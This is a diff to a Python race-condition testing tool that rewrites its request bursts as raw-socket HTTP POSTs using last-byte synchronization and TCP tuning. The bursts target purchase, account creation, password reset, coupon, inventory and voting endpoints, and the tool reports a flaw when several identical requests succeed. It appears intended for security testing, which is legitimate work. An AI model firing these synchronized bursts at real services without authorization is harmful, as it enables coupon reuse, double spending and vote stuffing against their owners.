@@ -3,18 +3,30 @@
 RACE CONDITION TESTER - TIMING-BASED VULNERABILITY DISCOVERY
 Tests for race conditions and timing-based vulnerabilities
 """
-import requests
-import threading
+import socket
+import selectors
 import time
 import json
 from concurrent.futures import ThreadPoolExecutor
+from urllib.parse import urlparse
+from _http import get_shared_ssl_context, CONNECT_TIMEOUT, READ_TIMEOUT
+
+# Bytes read from each connection; enough for the status line
+STATUS_READ_SIZE = 1024
 
 class RaceConditionTester:
     def __init__(self, target_url):
         self.target_url = target_url
-        self.session = requests.Session()
         self.vulnerabilities = []
         
+        # Connection details, parsed once from the target URL
+        parsed = urlparse(target_url)
+        self._hostname = parsed.hostname
+        self._port = parsed.port or (443 if parsed.scheme == 'https' else 80)
+        self._ssl_context = get_shared_ssl_context() if parsed.scheme == 'https' else None
+        self._host_header = parsed.netloc
+        self._request_target = (parsed.path or "/") + (f"?{parsed.query}" if parsed.query else "")
+        
     def test_all_race_conditions(self):
         """Test all race condition vulnerabilities"""
         print(f"[*] Starting race condition testing on {self.target_url}")
@@ -32,36 +44,17 @@ class RaceConditionTester:
         """Test purchase race condition"""
         print("[*] Testing purchase race condition...")
         
-        def make_purchase():
-            try:
-                data = {
-                    "product_id": 1,
-                    "quantity": 1,
-                    "price": 100
-                }
-                response = self.session.post(self.target_url, json=data, timeout=10)
-                return response
-            except:
-                return None
+        data = {
+            "product_id": 1,
+            "quantity": 1,
+            "price": 100
+        }
         
         # Send multiple purchase requests simultaneously
-        threads = []
-        responses = []
-        
-        for i in range(10):
-            thread = threading.Thread(target=lambda: responses.append(make_purchase()))
-            threads.append(thread)
-        
-        # Start all threads at the same time
-        for thread in threads:
-            thread.start()
-        
-        # Wait for all threads to complete
-        for thread in threads:
-            thread.join()
+        statuses = self._burst_send(self._build_post(data), 10)
         
         # Check for race condition
-        if self._check_purchase_race_condition(responses):
+        if self._count_successes(statuses) > 1:
             self.vulnerabilities.append({
                 "type": "Purchase Race Condition",
                 "severity": "High",
@@ -73,33 +66,16 @@ class RaceConditionTester:
         """Test account creation race condition"""
         print("[*] Testing account creation race condition...")
         
-        def create_account():
-            try:
-                data = {
-                    "username": "testuser",
-                    "email": "test@example.com",
-                    "password": "password123"
-                }
-                response = self.session.post(self.target_url, json=data, timeout=10)
-                return response
-            except:
-                return None
+        data = {
+            "username": "testuser",
+            "email": "test@example.com",
+            "password": "password123"
+        }
         
         # Send multiple account creation requests
-        threads = []
-        responses = []
+        statuses = self._burst_send(self._build_post(data), 5)
         
-        for i in range(5):
-            thread = threading.Thread(target=lambda: responses.append(create_account()))
-            threads.append(thread)
-        
-        for thread in threads:
-            thread.start()
-        
-        for thread in threads:
-            thread.join()
-        
-        if self._check_account_creation_race(responses):
+        if self._count_successes(statuses) > 1:
             self.vulnerabilities.append({
                 "type": "Account Creation Race Condition",
                 "severity": "Medium",
@@ -111,29 +87,12 @@ class RaceConditionTester:
         """Test password reset race condition"""
         print("[*] Testing password reset race condition...")
         
-        def request_password_reset():
-            try:
-                data = {"email": "test@example.com"}
-                response = self.session.post(self.target_url, json=data, timeout=10)
-                return response
-            except:
-                return None
+        data = {"email": "test@example.com"}
         
         # Send multiple password reset requests
-        threads = []
-        responses = []
-        
-        for i in range(5):
-            thread = threading.Thread(target=lambda: responses.append(request_password_reset()))
-            threads.append(thread)
-        
-        for thread in threads:
-            thread.start()
-        
-        for thread in threads:
-            thread.join()
+        statuses = self._burst_send(self._build_post(data), 5)
         
-        if self._check_password_reset_race(responses):
+        if self._count_successes(statuses) > 1:
             self.vulnerabilities.append({
                 "type": "Password Reset Race Condition",
                 "severity": "High",
@@ -145,32 +104,15 @@ class RaceConditionTester:
         """Test coupon race condition"""
         print("[*] Testing coupon race condition...")
         
-        def use_coupon():
-            try:
-                data = {
-                    "coupon_code": "DISCOUNT10",
-                    "amount": 100
-                }
-                response = self.session.post(self.target_url, json=data, timeout=10)
-                return response
-            except:
-                return None
+        data = {
+            "coupon_code": "DISCOUNT10",
+            "amount": 100
+        }
         
         # Send multiple coupon usage requests
-        threads = []
-        responses = []
-        
-        for i in range(5):
-            thread = threading.Thread(target=lambda: responses.append(use_coupon()))
-            threads.append(thread)
-        
-        for thread in threads:
-            thread.start()
-        
-        for thread in threads:
-            thread.join()
+        statuses = self._burst_send(self._build_post(data), 5)
         
-        if self._check_coupon_race_condition(responses):
+        if self._count_successes(statuses) > 1:
             self.vulnerabilities.append({
                 "type": "Coupon Race Condition",
                 "severity": "High",
@@ -182,32 +124,15 @@ class RaceConditionTester:
         """Test inventory race condition"""
         print("[*] Testing inventory race condition...")
         
-        def update_inventory():
-            try:
-                data = {
-                    "product_id": 1,
-                    "quantity": -1
-                }
-                response = self.session.post(self.target_url, json=data, timeout=10)
-                return response
-            except:
-                return None
+        data = {
+            "product_id": 1,
+            "quantity": -1
+        }
         
         # Send multiple inventory update requests
-        threads = []
-        responses = []
-        
-        for i in range(10):
-            thread = threading.Thread(target=lambda: responses.append(update_inventory()))
-            threads.append(thread)
-        
-        for thread in threads:
-            thread.start()
+        statuses = self._burst_send(self._build_post(data), 10)
         
-        for thread in threads:
-            thread.join()
-        
-        if self._check_inventory_race_condition(responses):
+        if self._count_successes(statuses) > 1:
             self.vulnerabilities.append({
                 "type": "Inventory Race Condition",
                 "severity": "High",
@@ -219,32 +144,15 @@ class RaceConditionTester:
         """Test voting race condition"""
         print("[*] Testing voting race condition...")
         
-        def cast_vote():
-            try:
-                data = {
-                    "poll_id": 1,
-                    "option": "A"
-                }
-                response = self.session.post(self.target_url, json=data, timeout=10)
-                return response
-            except:
-                return None
+        data = {
+            "poll_id": 1,
+            "option": "A"
+        }
         
         # Send multiple voting requests
-        threads = []
-        responses = []
-        
-        for i in range(10):
-            thread = threading.Thread(target=lambda: responses.append(cast_vote()))
-            threads.append(thread)
-        
-        for thread in threads:
-            thread.start()
+        statuses = self._burst_send(self._build_post(data), 10)
         
-        for thread in threads:
-            thread.join()
-        
-        if self._check_voting_race_condition(responses):
+        if self._count_successes(statuses) > 1:
             self.vulnerabilities.append({
                 "type": "Voting Race Condition",
                 "severity": "Medium",
@@ -252,35 +160,94 @@ class RaceConditionTester:
                 "description": "Multiple votes cast by same user"
             })
     
-    def _check_purchase_race_condition(self, responses):
-        """Check for purchase race condition"""
-        success_count = sum(1 for r in responses if r and r.status_code == 200)
-        return success_count > 1
+    def _build_post(self, data):
+        """Serialize a JSON POST to the target once, ready to be sent on every connection"""
+        body = json.dumps(data).encode()
+        head = (
+            f"POST {self._request_target} HTTP/1.1\r\n"
+            f"Host: {self._host_header}\r\n"
+            "Content-Type: application/json\r\n"
+            f"Content-Length: {len(body)}\r\n"
+            "Connection: close\r\n"
+            "\r\n"
+        )
+        return head.encode() + body
+    
+    def _burst_send(self, request_bytes, count):
+        """Send the same request on count connections at once; status code per request, None on failure"""
+        # Connect (and handshake) everything first, so the burst itself is only writes
+        with ThreadPoolExecutor(max_workers=count) as executor:
+            connections = list(executor.map(self._open_connection, range(count)))
+        
+        # Last-byte sync: the server holds each request until its body is complete,
+        # so every request is released by a single byte sent in one tight loop.
+        # One thread does the release; waking N workers from a barrier spreads it wider.
+        self._send_all(connections, request_bytes[:-1])
+        self._send_all(connections, request_bytes[-1:])
+        
+        return self._read_statuses(connections)
     
-    def _check_account_creation_race(self, responses):
-        """Check for account creation race condition"""
-        success_count = sum(1 for r in responses if r and r.status_code == 200)
-        return success_count > 1
+    def _read_statuses(self, connections):
+        """Read each connection's status code as its response arrives, all within one READ_TIMEOUT"""
+        statuses = [None] * len(connections)
+        with selectors.DefaultSelector() as selector:
+            for i, sock in enumerate(connections):
+                if sock is not None:
+                    selector.register(sock, selectors.EVENT_READ, i)
+            
+            deadline = time.monotonic() + READ_TIMEOUT
+            while selector.get_map():
+                remaining = deadline - time.monotonic()
+                if remaining <= 0:
+                    break
+                for key, _ in selector.select(remaining):
+                    selector.unregister(key.fileobj)
+                    statuses[key.data] = self._read_status(key.fileobj)
+            
+            # Connections that never answered
+            for key in list(selector.get_map().values()):
+                key.fileobj.close()
+        return statuses
     
-    def _check_password_reset_race(self, responses):
-        """Check for password reset race condition"""
-        success_count = sum(1 for r in responses if r and r.status_code == 200)
-        return success_count > 1
+    def _send_all(self, connections, data):
+        """Write data on every open connection, dropping the ones that fail"""
+        for i, sock in enumerate(connections):
+            if sock is None:
+                continue
+            try:
+                sock.sendall(data)
+            except OSError:
+                sock.close()
+                connections[i] = None
     
-    def _check_coupon_race_condition(self, responses):
-        """Check for coupon race condition"""
-        success_count = sum(1 for r in responses if r and r.status_code == 200)
-        return success_count > 1
+    def _open_connection(self, _):
+        """Open a connection to the target, TLS-wrapped for https"""
+        try:
+            sock = socket.create_connection((self._hostname, self._port), timeout=CONNECT_TIMEOUT)
+            sock.settimeout(READ_TIMEOUT)
+            sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)  # Final bytes leave immediately
+            if hasattr(socket, 'TCP_QUICKACK'):  # Linux only: no delayed ACKs while the burst is in flight
+                sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_QUICKACK, 1)
+            if self._ssl_context:
+                sock = self._ssl_context.wrap_socket(sock, server_hostname=self._hostname)
+            return sock
+        except OSError:
+            return None
     
-    def _check_inventory_race_condition(self, responses):
-        """Check for inventory race condition"""
-        success_count = sum(1 for r in responses if r and r.status_code == 200)
-        return success_count > 1
+    def _read_status(self, sock):
+        """Read the status code of the response on a connection, then close it"""
+        try:
+            status_line = sock.recv(STATUS_READ_SIZE).split(b"\r\n", 1)[0]
+            return int(status_line.split()[1])
+        except (OSError, IndexError, ValueError):
+            return None
+        finally:
+            sock.close()
     
-    def _check_voting_race_condition(self, responses):
-        """Check for voting race condition"""
-        success_count = sum(1 for r in responses if r and r.status_code == 200)
-        return success_count > 1
+    @staticmethod
+    def _count_successes(statuses):
+        """Count the burst requests that were accepted"""
+        return statuses.count(200)
 
 if __name__ == "__main__":
     import sys